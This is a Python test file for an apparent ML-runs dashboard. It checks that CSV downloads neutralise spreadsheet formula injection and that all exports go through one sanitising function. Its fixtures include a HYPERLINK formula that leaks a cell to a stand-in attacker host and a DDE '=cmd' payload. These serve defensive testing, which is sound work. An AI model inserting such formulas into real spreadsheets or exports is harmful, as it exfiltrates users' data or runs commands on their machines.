"""CSV downloads cannot carry spreadsheet formulas (core.runs.csv_export), and every one of the
app's CSV downloads is written by it."""

import ast
import io
import tomllib
from pathlib import Path

import pandas as pd

from core.runs.csv_export import csv_bytes, neutralise_cell
from core.settings import PROJECT_ROOT

HYPERLINK = '=HYPERLINK("https://evil.example/?leak="&A1, "Click for your results")'
APP_FILES = [PROJECT_ROOT / "app.py", *sorted((PROJECT_ROOT / "ui").glob("*.py"))] + sorted(
    (PROJECT_ROOT / "app_pages").glob("*.py")
)


def test_text_cells_that_start_like_formulas_get_an_apostrophe():
    for text in (HYPERLINK, "+1+1", "-2+3", "@SUM(A1:A2)", "\t=1", "\r=1", "\uff1d1+1"):
        assert neutralise_cell(text) == "'" + text
    for value in ("784-128-10 relu", "a=b", "", -0.5, 3, None):
        assert neutralise_cell(value) == value


def test_a_runs_table_with_a_hostile_name_keeps_its_numbers_as_numbers():
    table = pd.DataFrame(
        {
            "Name": [HYPERLINK, "-1 is a fine name", "plain"],
            "Test accuracy": [97.5, -0.25, 91.0],
            "Epochs": [3, -1, 5],
        }
    )
    written = csv_bytes(table, index=False)
    read = pd.read_csv(io.BytesIO(written))
    assert read["Name"].tolist() == ["'" + HYPERLINK, "'-1 is a fine name", "plain"]
    assert read["Test accuracy"].tolist() == [97.5, -0.25, 91.0]
    assert read["Epochs"].tolist() == [3, -1, 5]
    assert b"\n=HYPERLINK" not in written and b",=HYPERLINK" not in written
    assert table["Name"][0] == HYPERLINK  # the caller's table is not changed


def test_text_in_the_index_and_the_headers_is_neutralised_too():
    table = pd.DataFrame({"=cmd|' /C calc'!A0": [1]}, index=pd.Index(["@evil"], name="run"))
    read = pd.read_csv(io.BytesIO(csv_bytes(table)))
    assert list(read.columns) == ["run", "'=cmd|' /C calc'!A0"]
    assert read["run"].tolist() == ["'@evil"]


def _calls(path: Path):
    for node in ast.walk(ast.parse(path.read_text(), filename=str(path))):
        if isinstance(node, ast.Call):
            yield node


def _name(node: ast.AST) -> str:
    if isinstance(node, ast.Attribute):
        return node.attr
    return node.id if isinstance(node, ast.Name) else ""


def test_every_csv_download_of_the_app_is_written_by_csv_bytes():
    """No page writes a CSV itself, and every CSV download button hands out csv_bytes(...)."""
    csv_downloads = 0
    for path in APP_FILES:
        for call in _calls(path):
            assert _name(call.func) != "to_csv", f"{path.name}:{call.lineno} writes a CSV itself"
            if _name(call.func) != "download_button":
                continue
            keywords = {keyword.arg: keyword.value for keyword in call.keywords}
            text = ast.unparse(call)
            if ".csv" in text or "text/csv" in text:
                csv_downloads += 1
                data = keywords.get("data", call.args[1] if len(call.args) > 1 else None)
                assert isinstance(data, ast.Call) and _name(data.func) == "csv_bytes", (
                    f"{path.name}:{call.lineno} hands out a CSV not written by csv_bytes"
                )
    assert csv_downloads >= 2  # the runs table and a run's history, on Compare


def test_the_tables_own_csv_export_is_off():
    """Streamlit's table toolbar writes its CSV in the browser, past csv_bytes: it is off."""
    config = tomllib.loads((PROJECT_ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True


def test_decimals_are_written_to_six_significant_digits():
    """The runs table's CSV said 94.01333333333334 and 9.742531349000274."""
    table = pd.DataFrame({"Test accuracy": [94.01333333333334], "Seconds": [9.742531349000274]})
    assert csv_bytes(table, index=False).decode() == "Test accuracy,Seconds\n94.0133,9.74253\n"
